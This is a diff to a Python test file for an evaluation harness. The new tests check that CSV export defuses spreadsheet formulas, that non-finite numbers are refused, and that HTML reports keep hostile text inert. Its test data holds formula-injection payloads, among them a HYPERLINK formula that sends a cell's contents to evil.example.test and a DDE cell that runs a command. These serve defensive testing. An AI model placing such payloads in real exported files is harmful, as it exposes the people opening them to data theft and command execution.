@@ -2,29 +2,46 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import math
 import os
 import subprocess
 import sys
+from collections.abc import Callable, Iterator
 from dataclasses import replace
 from html.parser import HTMLParser
 from pathlib import Path
 
+import click
 import pytest
 import recorded as rec
 from pydantic import JsonValue, ValidationError
+from report_pages import without_script
 
+from harness.cli import main as entry
+from harness.cli.ceilings import amount, duration
+from harness.cli.options import NumberRange
 from harness.cli.output import say_json
+from harness.documents import DocumentError, parse_json, parse_toml
+from harness.qualification import actor_figures, clopper_pearson, wilson
+from harness.qualification.comparing import compare
+from harness.qualification.costing import cost_gaps
+from harness.qualification.planning import trials_needed
+from harness.qualification.sequential import spent
+from harness.qualification.several import benjamini_hochberg, holm
 from harness.receipt import RunStore
 from harness.recording import dump, recording_path, reseal
 from harness.redaction import SecretGuard
 from harness.reporters import github, html, markdown, terminal
+from harness.reporters._csv_text import Cell, csv_text
 from harness.schema.actor import ActorIdentity
 from harness.schema.base import canonical_json, digest_json, digest_text
 from harness.schema.graph import GraphEdge, GraphNode, RuleGraph
 from harness.schema.outcome import Outcome
 from harness.schema.process import PlaneIdentity
+from harness.schema.qualification import Difference, Estimate, Interval
 from harness.schema.receipt import Boundary, BoundaryChange, Counters, Finding, Receipt, RedactedText, Step
 from harness.schema.recording import Recording
 from harness.schema.run import (
@@ -123,6 +140,38 @@ def spoken(text: str, scenario: str = "demo/first", trial: int = 1, ref: str = "
     return reseal(made.model_copy(update={"header": made.header.model_copy(update=change)}))
 
 
+D010_CELLS = [
+    '=HYPERLINK("https://evil.example.test?"&A1,"x")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1)",
+    "\t=1",
+    "\r=1",
+    "\u200b=1",
+    " =1",
+    "-12.5",
+    "-Infinity",
+    'a,b"c\nd',
+]
+D010_NUMBERS = [-12.5, 3]
+
+
+def test_d010_a_cell_of_text_is_no_formula_and_a_number_stays_one() -> None:
+    head = [f"column {number}" for number in range(len(D010_CELLS) + len(D010_NUMBERS))]
+    row: dict[str, Cell] = dict(zip(head, [*D010_CELLS, *D010_NUMBERS], strict=True))
+    text = csv_text(head, [row])
+
+    found_head, found = csv.reader(io.StringIO(text, newline=""))
+    assert found_head == head
+    for cell in found[:10]:
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+        shown = cell.lstrip("\u200b\u200c\u200d\u2060\ufeff\ufffd \t\r\n\xa0")
+        assert not shown.startswith(("=", "+", "-", "@"))
+    assert found[10] == 'a,b"c\nd'
+    assert found[11:] == ["-12.5", "3"]
+    assert [float(cell) for cell in found[11:]] == D010_NUMBERS
+
+
 @pytest.mark.parametrize("number", [math.nan, math.inf, -math.inf])
 def test_d004_a_number_that_is_none_is_an_error_at_the_source(
     number: float, capsys: pytest.CaptureFixture[str]
@@ -134,6 +183,78 @@ def test_d004_a_number_that_is_none_is_an_error_at_the_source(
         with pytest.raises(ValueError, match="JSON compliant"):
             write({"scores": [1.0, number]})
     assert capsys.readouterr().out == ""
+
+
+NOT_FINITE = [math.nan, math.inf, -math.inf]
+
+
+@pytest.mark.parametrize("number", NOT_FINITE)
+def test_d004_a_threshold_that_is_no_number_is_refused(number: float) -> None:
+    """Else nothing would be beyond it, or all would."""
+    figures = [actor_figures("run", name, "live", [], most=1) for name in "ab"]
+    refusals: list[Callable[[], object]] = [
+        lambda: compare(figures, margin=number),
+        lambda: compare(figures, alpha=number),
+        lambda: cost_gaps([[], []], alpha=number),
+        lambda: trials_needed([0.5], number),
+        lambda: trials_needed([number], 0.1),
+        lambda: trials_needed([0.5], 0.1, alpha=number),
+        lambda: trials_needed([0.5], 0.1, power=number),
+        lambda: wilson(1, 2, confidence=number),
+        lambda: clopper_pearson(1, 2, confidence=number),
+        lambda: holm([number]),
+        lambda: benjamini_hochberg([number]),
+        lambda: spent(number, 0.05),
+    ]
+    for refused in refusals:
+        with pytest.raises(ValueError, match=r"between 0 and 1|there is no such|share"):
+            refused()
+
+
+def numbers(group: click.Command, path: str = "harness") -> Iterator[tuple[str, click.Parameter]]:
+    """Every option of every command that takes a number with a point."""
+    for param in group.params:
+        if isinstance(param.type, click.types.FloatParamType):
+            yield f"{path} {param.opts[0]}", param
+    if isinstance(group, click.Group):
+        context = click.Context(group)
+        for name in group.list_commands(context):
+            command = group.get_command(context, name)
+            assert command is not None
+            yield from numbers(command, f"{path} {name}")
+
+
+@pytest.mark.parametrize("text", ["nan", "inf", "-inf", "1e999"])
+def test_d004_no_option_takes_a_number_that_is_none(text: str) -> None:
+    found = dict(numbers(entry._top()))
+    assert {"harness compare --margin", "harness wire probe --read-timeout"} <= found.keys()
+    for name, param in found.items():
+        with pytest.raises(click.BadParameter):
+            param.type.convert(text, param, None)
+        assert isinstance(param.type, NumberRange), name
+
+
+@pytest.mark.parametrize("text", ["NaN", "sNaN", "Infinity", "-Infinity", "1e999999"])
+def test_d004_no_ceiling_is_a_number_that_is_none(text: str) -> None:
+    for read in (amount, duration):
+        with pytest.raises(click.BadParameter):
+            read(click.Context(click.Command("run")), click.Option(["--ceiling"]), text)
+
+
+@pytest.mark.parametrize("number", ["nan", "inf", "-inf"])
+def test_d004_no_file_of_a_person_holds_a_threshold_that_is_no_number(number: str) -> None:
+    with pytest.raises(DocumentError, match="not a finite number"):
+        parse_toml(f"[limits]\ndeadline_s = {number}\n")
+    for text in ('{"most": NaN}', '{"most": -Infinity}', '{"most": 1e999}'):
+        with pytest.raises(DocumentError):
+            parse_json(text)
+
+
+def test_d004_no_rate_and_no_difference_is_a_number_that_is_none() -> None:
+    for kind in (Interval, Difference, Estimate):
+        fields = dict.fromkeys(kind.model_fields, math.nan)
+        with pytest.raises(ValidationError, match="finite number"):
+            kind.model_validate(fields)
 
 
 @pytest.mark.parametrize("token", ["NaN", "Infinity", "-Infinity", "1e999"])
@@ -181,7 +302,9 @@ def test_d006_no_element_and_no_attribute_of_the_page_comes_from_a_text(hostile:
     page = html.build().render(hostile)
     seen = Tags(page)
     tags = [tag for tag, _ in seen.tags]
-    assert (tags.count("style"), {"script", "img", "iframe", "link"} & set(tags)) == (1, set())
+    assert (tags.count("style"), {"img", "iframe", "link"} & set(tags)) == (1, set())
+    # the page's own: the data, which no browser runs, and what reads it
+    assert [found for tag, found in seen.tags if tag == "script"] == [{"type": "text/plain", "id": "packed"}, {}]
     names = {name for _, attributes in seen.tags for name in attributes}
     assert not {name for name in names if name.startswith("on")} | {"src", "style"} & names
     assert all(attributes["href"].startswith("#") for _, attributes in seen.tags if "href" in attributes)
@@ -190,7 +313,7 @@ def test_d006_no_element_and_no_attribute_of_the_page_comes_from_a_text(hostile:
 
 
 def test_d006_the_text_is_shown_as_it_is_in_every_place(hostile: RunView) -> None:
-    text = "".join(Tags(html.build().render(hostile)).words)
+    text = "".join(Tags(without_script(html.build().render(hostile))).words)
     # actor, tool, asks, problem, expected and got, changed path, file name, model's words
     assert text.count(HOSTILE) >= 9
     assert "".join(HOSTILE.split()) in "".join(terminal.build().render(hostile).split())
@@ -262,7 +385,7 @@ def test_d008_a_run_with_large_texts_gives_bounded_reports_and_says_what_is_left
     assert sizes["summary.md"] <= 1_000_000
     page = (folder / "report.html").read_text("utf-8").replace("<wbr>", "")
     # the table of all episodes is complete, whatever is left out below it
-    assert page.count('<th scope="row">') == len(many) + 1  # and the one actor
+    assert page.count('<th scope="row"><span class="soft">') == len(many)
     first = "recordings/demo/case-000/openai--openai-m"
     assert first in page
     assert "too large to be shown here" in page
